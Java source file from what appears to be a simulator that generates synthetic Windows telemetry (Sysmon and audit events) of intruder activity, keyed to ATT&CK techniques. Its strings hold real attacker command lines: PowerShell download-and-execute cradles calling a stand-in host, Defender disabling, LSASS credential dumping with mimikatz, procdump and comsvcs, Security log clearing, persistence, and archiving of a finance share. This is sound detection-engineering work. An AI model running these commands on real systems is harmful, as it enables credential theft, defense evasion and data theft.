package dev.nightshift.telemetry;

import dev.nightshift.world.Host;
import dev.nightshift.world.User;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.Base64;
import java.util.List;
import java.util.Map;

/**
 * Emitters for what an intruder does on one Windows host: a macro starting a shell, hidden PowerShell, the
 * technique's own command lines, LSASS dumping, clearing the Security log, a Run key and a password-protected archive.
 */
final class HostEmitters {

    static final String POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    static final String CMD = "C:\\Windows\\System32\\cmd.exe";
    private static final String WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
    private static final Map<String, List<String>> COMMANDS = Map.ofEntries(
            Map.entry("T1087.001", List.of("net user", "net localgroup administrators")),
            Map.entry("T1087.002", List.of("net user /domain", "net group \"Domain Admins\" /domain", "net group \"Enterprise Admins\" /domain")),
            Map.entry("T1069.002", List.of("net group /domain", "net group \"Domain Computers\" /domain")),
            Map.entry("T1482", List.of("nltest /domain_trusts /all_trusts", "nltest /dclist:%d")),
            Map.entry("T1018", List.of("net view /all /domain", "ping -n 1 %dc")),
            Map.entry("T1016", List.of("ipconfig /all", "route print", "arp -a")),
            Map.entry("T1033", List.of("whoami /all", "quser")),
            Map.entry("T1082", List.of("systeminfo", "wmic os get Caption,Version,OSArchitecture")),
            Map.entry("T1057", List.of("tasklist /v", "wmic process list brief")),
            Map.entry("T1135", List.of("net view \\\\%fs /all", "net share")),
            Map.entry("T1489", List.of("net stop \"SQL Server (MSSQLSERVER)\" /y", "sc config VSS start= disabled", "net stop VeeamBackupSvc /y")),
            Map.entry("T1562.001", List.of("powershell.exe -Command \"Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true\"",
                    "sc stop WinDefend")),
            Map.entry("T1047", List.of("wmic /node:%dc process call create \"cmd.exe /c whoami > C:\\Windows\\Temp\\w.txt\"")),
            Map.entry("T1053.005", List.of("schtasks /create /tn \"OneDrive Standalone Update\" /tr \"C:\\Users\\Public\\updater.exe\" /sc onlogon /ru SYSTEM /f")),
            Map.entry("T1059.003", List.of("cmd.exe /c \"echo %computername% & whoami & ipconfig\"")));

    private HostEmitters() {
    }

    static void macroExecution(Emission e) {
        Host host = e.host();
        User user = e.user();
        String doc = "C:\\Users\\" + user.username() + "\\Downloads\\" + e.action.text("document");
        Proc word = e.proc(WORD, "\"" + WORD + "\" /n \"" + doc + "\" /o \"\"", "C:\\Windows\\explorer.exe", "Medium");
        e.processStart(e.start, host, word);
        Instant t = e.start.plusSeconds(4 + e.random.nextInt(6));
        e.add(Sysmon.fileCreate(t, host.name(), e.c.fqdn(host), word, "C:\\Users\\" + user.username()
                + "\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Word\\~WRS{" + Draws.guid(e.random).substring(1), e.truth));
        Proc cmd = word.child(CMD, "cmd.exe /c powershell -w hidden -nop -ep bypass -c \"IEX(New-Object Net.WebClient).DownloadString('http://"
                + "cdn-static-assets.example/a.ps1')\"", e.pid(), Draws.guid(e.random));
        e.processStart(t.plusMillis(600), host, cmd);
    }

    static void powershell(Emission e) {
        Host host = e.host();
        String script = e.action.text("command").isEmpty()
                ? "$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0');IEX $c.DownloadString('https://cdn-static-assets.example/s')"
                : e.action.text("command");
        String encoded = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
        Proc ps = e.proc(POWERSHELL, "powershell.exe -nop -w hidden -noni -ep bypass -enc " + encoded, CMD, "Medium");
        e.processStart(e.start, host, ps);
        if (e.ip() != null) {
            e.add(Sysmon.network(e.start.plusMillis(800 + e.random.nextInt(1500)), host.name(), e.c.fqdn(host), ps, "tcp", host.ip(),
                    Draws.port(e.random), e.ip(), "-", 443, e.truth));
        }
    }

    static void processCommands(Emission e) {
        Host host = e.host();
        List<String> commands = e.action.text("command").isEmpty()
                ? COMMANDS.getOrDefault(e.stage.technique(), List.of("whoami")) : List.of(e.action.text("command"));
        Proc shell = e.proc(CMD, "\"C:\\Windows\\system32\\cmd.exe\"", POWERSHELL, "High");
        Instant t = e.start;
        String dc = e.c.dnsServer.name();
        String fs = e.c.server(dev.nightshift.scenario.HostRole.FILE_SERVER).name();
        for (String command : commands) {
            String line = command.replace("%d", e.c.world.domain()).replace("%dc", dc).replace("%fs", fs);
            String exe = line.startsWith("powershell") ? POWERSHELL : "C:\\Windows\\System32\\" + line.split(" ")[0] + (line.split(" ")[0].endsWith(".exe") ? "" : ".exe");
            e.processStart(t, host, shell.child(exe, line, e.pid(), Draws.guid(e.random)));
            t = t.plusMillis(1500 + e.random.nextInt(9000));
        }
    }

    static void lsassDump(Emission e) {
        Host host = e.host();
        String method = e.action.text("method");
        String dump = "C:\\Windows\\Temp\\" + (method.equals("procdump") ? "lsass.dmp" : "debug" + (100 + e.random.nextInt(900)) + ".dmp");
        int lsass = 700 + e.random.nextInt(120);
        Proc tool = switch (method) {
            case "mimikatz" -> e.proc("C:\\Users\\Public\\mm.exe", "mm.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", CMD, "High");
            case "procdump" -> e.proc("C:\\Users\\Public\\procdump64.exe", "procdump64.exe -accepteula -ma lsass.exe " + dump, CMD, "High");
            default -> e.proc("C:\\Windows\\System32\\rundll32.exe", "\"C:\\Windows\\system32\\rundll32.exe\" C:\\windows\\System32\\comsvcs.dll MiniDump "
                    + lsass + " " + dump + " full", POWERSHELL, "High");
        };
        e.processStart(e.start, host, tool);
        String access = method.equals("mimikatz") ? "0x1010" : "0x1fffff";
        e.add(Sysmon.processAccess(e.start.plusMillis(200), host.name(), e.c.fqdn(host), tool, "C:\\Windows\\system32\\lsass.exe", lsass,
                Draws.guid(e.random), access, "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
                        + (method.equals("comsvcs") ? "C:\\windows\\System32\\comsvcs.dll+44e1f|" : "") + "UNKNOWN(00007FF6A12B3C1D)", e.truth));
        if (!method.equals("mimikatz")) {
            e.add(Sysmon.fileCreate(e.start.plusMillis(1400 + e.random.nextInt(800)), host.name(), e.c.fqdn(host), tool, dump, e.truth));
        }
    }

    static void clearLogs(Emission e) {
        Host host = e.host();
        User user = e.user();
        Proc wevtutil = e.proc("C:\\Windows\\System32\\wevtutil.exe", "wevtutil cl Security", CMD, "High");
        e.processStart(e.start, host, wevtutil);
        e.add(WindowsAudit.logCleared(e.start.plusMillis(300), host.name(), e.c.fqdn(host),
                new WindowsAudit.Subject(user.sid(), user.username(), e.c.world.netbiosDomain(), wevtutil.logonId()), e.truth));
    }

    static void runKey(Emission e) {
        Host host = e.host();
        User user = e.user();
        Proc reg = e.proc("C:\\Windows\\System32\\reg.exe", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v "
                + e.action.text("value") + " /t REG_SZ /d \"" + e.action.text("program") + "\" /f", CMD, "Medium");
        e.processStart(e.start, host, reg);
        e.add(Sysmon.registrySet(e.start.plusMillis(40), host.name(), e.c.fqdn(host), reg, "HKU\\" + user.sid()
                + "\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\" + e.action.text("value"), e.action.text("program"), e.truth));
    }

    static void archive(Emission e) {
        Host host = e.host();
        String archive = e.action.text("archive");
        Proc zip = e.proc("C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a -t7z -mhe=on -p" + Long.toHexString(e.random.nextLong()).substring(0, 10)
                + " " + archive + " \"\\\\" + e.c.fqdn(e.c.server(dev.nightshift.scenario.HostRole.FILE_SERVER)) + "\\Shares\\Finance\\*\"", CMD, "High");
        e.processStart(e.start, host, zip);
        e.add(Sysmon.fileCreate(e.start.plus(Duration.ofSeconds(20 + e.random.nextInt(60))), host.name(), e.c.fqdn(host), zip, archive, e.truth));
    }
}
